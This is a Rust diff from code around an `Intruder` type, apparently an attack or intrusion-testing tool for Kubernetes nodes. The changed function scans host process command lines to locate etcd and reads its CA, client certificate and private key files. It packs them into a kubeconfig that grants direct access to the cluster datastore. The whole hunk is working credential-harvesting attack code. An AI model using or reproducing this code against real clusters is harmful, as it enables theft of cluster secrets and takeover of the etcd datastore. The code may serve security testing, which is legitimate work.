@@ -97,24 +97,25 @@ impl Drop for Intruder {
     }
 }
 
-/// Over etcd's JSON gateway, with the API server's own certificate.
+/// Over etcd's JSON gateway, with the certificate of its clients.
 async fn write(process_ids: &[u32]) -> anyhow::Result<()> {
     let lines = process_ids.iter().filter_map(|id| std::fs::read_to_string(format!("/proc/{id}/cmdline")).ok());
-    let arguments = lines.into_iter().find(|line| line.contains("--etcd-servers")).context("an API server")?;
+    let arguments = lines.into_iter().find(|line| line.contains("--advertise-client-urls")).context("an etcd")?;
     let option = |name: &str| {
         let start = format!("--{name}=");
         arguments.split('\0').find_map(|argument| argument.strip_prefix(&start)).map(str::to_owned).context(start)
     };
     let base64 = |bytes: &[u8]| base64::engine::general_purpose::STANDARD.encode(bytes);
-    let read = |name: &str| -> anyhow::Result<String> { Ok(base64(&std::fs::read(option(name)?)?)) };
-    let server = option("etcd-servers")?;
+    let authority = std::path::PathBuf::from(option("trusted-ca-file")?);
+    let read = |name: &str| -> anyhow::Result<String> { Ok(base64(&std::fs::read(authority.with_file_name(name))?)) };
+    let server = option("advertise-client-urls")?;
     let kubeconfig = json!({
         "apiVersion": "v1", "kind": "Config", "current-context": "c",
         "clusters": [{"name": "c", "cluster": {
-            "server": server, "certificate-authority-data": read("etcd-cafile")?,
+            "server": server, "certificate-authority-data": base64(&std::fs::read(&authority)?),
         }}],
         "users": [{"name": "u", "user": {
-            "client-certificate-data": read("etcd-certfile")?, "client-key-data": read("etcd-keyfile")?,
+            "client-certificate-data": read("etcd-client.crt")?, "client-key-data": read("etcd-client.key")?,
         }}],
         "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}],
     });
